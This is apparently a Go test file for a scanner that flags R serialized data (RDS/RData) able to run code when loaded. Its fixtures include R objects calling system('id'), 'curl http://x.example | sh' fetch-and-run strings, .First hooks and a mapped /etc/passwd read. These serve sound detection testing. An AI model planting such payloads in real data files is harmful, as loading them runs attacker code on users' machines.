package rdata_test

import (
	"bytes"
	"context"
	"io"
	"os"
	"slices"
	"strings"
	"testing"

	"modelwall/scan"
	"modelwall/scan/compress"
	"modelwall/scan/data"
	"modelwall/scan/engine"
	"modelwall/scan/rdata"
	"modelwall/scan/scantest"
)

// Written by R 4.2: saveRDS(list(quote(f(1)), "a b\n"), ascii = TRUE), and with
// quote(system("id")).
const (
	asciiGood = "A\n3\n262658\n197888\n5\nUTF-8\n19\n2\n6\n1\n262153\n1\nf\n2\n14\n1\n1\n254\n16\n1\n262153\n4\na\\040b\\n\n"
	asciiBad  = "A\n3\n262658\n197888\n5\nUTF-8\n19\n1\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n2\nid\n254\n"
)

func samples() []scantest.Sample {
	const info, low, sus, mal = scan.Info, scan.Low, scan.SeveritySuspicious, scan.SeverityMalicious
	system := call(sym("system"), strs("id"))
	fit := named([]string{"coefficients", "call", "terms", "family"},
		nums(1, 2), call(sym("lm"), call(sym("~"), sym("y"), sym("x")), sym("d")),
		obj(u32(6|attrs))+pairs(".Environment", env(0, "data", later(sym("train"))))+sym("~")+null,
		list(function(call(sym("{"), call(sym("eval"), call(sym("parse"), sym("text")))))))
	return []scantest.Sample{
		{Name: "numbers", Data: file(2, nums(1, 2, 3)), Worst: info},
		{Name: "model", Data: file(3, fit), Worst: info},
		{Name: "workspace", Data: workspace(pairs("fit", fit, "system", nums(1))), Worst: info},
		{Name: "ascii", Data: []byte(asciiGood), Worst: info},
		{Name: "promise with its value", Data: file(3, env(0, "x", known(nums(1), system))), Worst: info},
		{Name: "promise in an environment", Data: file(3, env(0, "x", later(call(sym("mean"), sym("y"))))), Worst: info},
		{Name: "active binding", Data: file(3, env(active, "x", function(call(sym("nrow"), sym("y"))))), Worst: info},
		{Name: "variable system", Data: file(3, function(call(sym("print"), sym("system")))), Worst: info},
		{Name: "text about system", Data: file(3, strs("call system('curl http://x | sh')")), Worst: info},
		{Name: "compiled", Data: file(3, compiled(bcCall("mean"), sym("x"), nums(1))), Worst: info},
		{Name: "compact sequence", Data: file(3, altrep("compact_intseq", nums(1, 2, 3))), Worst: info},
		{Name: "reads a file", Data: file(3, function(call(sym("unlink"), sym("x")))), Worst: low},
		{Name: "trailing", Data: append(file(3, nums(1)), "more"...), Worst: low},
		{Name: "two objects", Data: append(file(3, nums(1)), file(2, system)...), Worst: sus},

		{Name: "promise", Data: workspace(pairs("fit", later(call(sym("mean"), sym("x"))))), Worst: mal},
		{Name: "promise alone", Data: file(3, later(system)), Worst: mal},
		{Name: "promise in a list", Data: file(3, list(nums(1), later(call(sym("f"))))), Worst: mal},
		{Name: "promise as an attribute", Data: file(3, obj(u32(19|attrs)+u32(0))+pairs("names", later(call(sym("f"))))), Worst: mal},
		{Name: "promise of a variable", Data: file(3, list(later(sym("x")))), Worst: sus},
		{Name: "promise of byte code", Data: file(3, list(later(compiled(nums(1))[12:]))), Worst: mal},
		{Name: "promise that starts a program", Data: file(3, env(0, "x", later(system))), Worst: mal},
		{Name: "active binding that does", Data: file(3, env(active, "x", function(system))), Worst: mal},
		{Name: "closure", Data: file(3, list(function(system))), Worst: sus},
		{Name: "closure with a command", Data: file(3, function(call(sym("system"), strs("curl http://x.example | sh")))), Worst: mal},
		{Name: "closure, qualified", Data: file(3, function(call(call(sym("::"), sym("base"), sym("system")), strs("id")))), Worst: sus},
		{Name: "closure, by name", Data: file(3, function(call(sym("do.call"), strs("system"), sym("x")))), Worst: sus},
		{Name: "closure, by symbol", Data: file(3, function(call(sym("lapply"), sym("x"), sym("system")))), Worst: sus},
		{Name: "closure, builtin", Data: file(3, function(call(obj(u32(8)+u32(6)+"system"), strs("id")))), Worst: sus},
		{Name: "closure, reference", Data: file(3, list(sym("system"), function(call(ref(1), strs("id"))))), Worst: sus},
		{Name: "builtin", Data: file(3, list(obj(u32(8)+u32(6)+"system"))), Worst: sus},
		{Name: "compiled call", Data: file(3, compiled(bcCall("system"))), Worst: sus},
		{Name: "compiled symbol", Data: file(3, compiled(nums(1), sym("system2"))), Worst: sus},
		{Name: "expression", Data: file(3, obj(u32(20)+u32(1))+system), Worst: sus},
		{Name: "ascii, bad", Data: []byte(asciiBad), Worst: sus},
		{Name: "decoded", Data: file(3, function(call(sym("eval"), call(sym("parse"), call(sym("rawToChar"), sym("x")))))), Worst: sus},
		{Name: "parsed text", Data: file(3, function(call(sym("eval"), call(sym("parse"), strs("system('id')"))))), Worst: sus},
		{Name: ".First", Data: workspace(pairs(".First", function(call(sym("cat"), sym("x"))))), Worst: sus},
		{Name: ".First that does", Data: workspace(pairs(".First", function(system))), Worst: mal},
		{Name: "mask", Data: workspace(pairs("library", function(sym("x")))), Worst: sus},
		{Name: "no mask", Data: workspace(pairs("library", nums(1), "mine", function(sym("x")))), Worst: info},
		{Name: "mapped file", Data: file(3, altrep("mmap_real", strs("/etc/passwd"))), Worst: sus},
		{Name: "text as R data", Data: []byte("RDX2\nX\nexpression\nbase::system('curl https://x.example/p.sh | sh')"), Worst: sus, Err: scan.ErrForeign},

		{Name: "cut off", Data: file(3, list(nums(1, 2), system))[:60], Err: scan.ErrMalformed},
		{Name: "no such type", Data: file(3, obj(u32(77))), Err: scan.ErrMalformed},
		{Name: "huge vector", Data: file(3, obj(u32(14)+u32(0x7fffffff))), Err: scan.ErrMalformed},
		{Name: "bad reference", Data: file(3, ref(7)), Err: scan.ErrMalformed},
		{Name: "found before the break", Data: file(3, list(later(system), obj(u32(14)+u32(99)))), Worst: mal, Err: scan.ErrMalformed},
		{Name: "deep", Data: file(3, obj(strings.Repeat(u32(19)+u32(2), 100_000))), Err: scan.ErrLimit},
	}
}

func TestScanner(t *testing.T) { scantest.Run(t, rdata.New(), samples()) }

// TestNative: the same object in the machine's own byte order.
func TestNative(t *testing.T) {
	data := file(2, list(function(call(sym("system")))))
	out := []byte("B\n")
	for i := 2; i < len(data); { // numbers are turned around, text is not
		if i+6 <= len(data) && string(data[i:i+6]) == "system" {
			out, i = append(out, "system"...), i+6
			continue
		}
		out, i = append(out, data[i+3], data[i+2], data[i+1], data[i]), i+4
	}
	r, err := scantest.Scan(rdata.New(), "x", out)
	if err != nil || r.Worst() != scan.SeveritySuspicious || !rdata.New().Match(scantest.Probe("x", out)) {
		t.Errorf("%v, findings %+v", err, r.Findings)
	}
}

func TestRawIsHandedOn(t *testing.T) {
	inner := "\x80\x02}."
	r, err := scantest.Scan(rdata.New(), "x", file(3, list(rawBytes("plain bytes"), rawBytes(inner), rawBytes(string(file(2, nums(1)))))))
	if err != nil || len(r.Members) != 2 || string(r.Members[0].Data) != inner {
		t.Errorf("%v, members %+v", err, r.Members)
	}
}

type counting struct {
	io.ReaderAt
	n int64
}

func (c *counting) ReadAt(p []byte, off int64) (int, error) {
	n, err := c.ReaderAt.ReadAt(p, off)
	c.n += int64(n)
	return n, err
}

// TestBytesRead: numbers are skipped.
func TestBytesRead(t *testing.T) {
	data := file(3, list(nums(make([]uint64, 4<<20)...), function(call(sym("system")))))
	c := &counting{ReaderAt: bytes.NewReader(data)}
	r := &scantest.Record{}
	err := rdata.New().Scan(context.Background(), scan.File{Size: int64(len(data)), ReaderAt: c}, r)
	if err != nil || r.Worst() != scan.SeveritySuspicious || c.n > 256<<10 {
		t.Errorf("%v, %d bytes read, findings %+v", err, c.n, r.Findings)
	}
}

const corpus = "../../../shared/corpus"

func TestCorpus(t *testing.T) {
	if _, err := os.Stat(corpus); err != nil {
		t.Skip("the sample corpus is not here")
	}
	eng := engine.New(slices.Concat([]scan.Scanner{rdata.New()}, compress.New(), data.New()), engine.Limits{TempDir: t.TempDir()})
	n := 0
	for _, e := range scantest.Corpus(t, corpus) {
		if e.Format != "rds" && e.Format != "rda" && e.Format != "rdata" {
			continue
		}
		n++
		b, err := os.ReadFile(e.Path)
		if err != nil {
			t.Fatal(err)
		}
		r, err := eng.Inspect(context.Background(), scantest.Bytes(e.Path, b))
		if err != nil {
			t.Fatal(err)
		}
		if flagged := r.Worst() >= scan.SeveritySuspicious; flagged != (e.Label != "benign") || r.Error != "" {
			t.Errorf("%s %s: %v %s %+v", e.Label, e.Path, r.Verdict, r.Error, r.Findings)
		}
	}
	if n == 0 {
		t.Error("no R data in the corpus")
	}
}

func FuzzScan(f *testing.F) {
	for _, s := range samples() {
		if len(s.Data) < 4<<10 {
			f.Add(s.Data)
		}
	}
	f.Fuzz(func(t *testing.T, data []byte) { scantest.Fuzz(t, rdata.New(), data) })
}
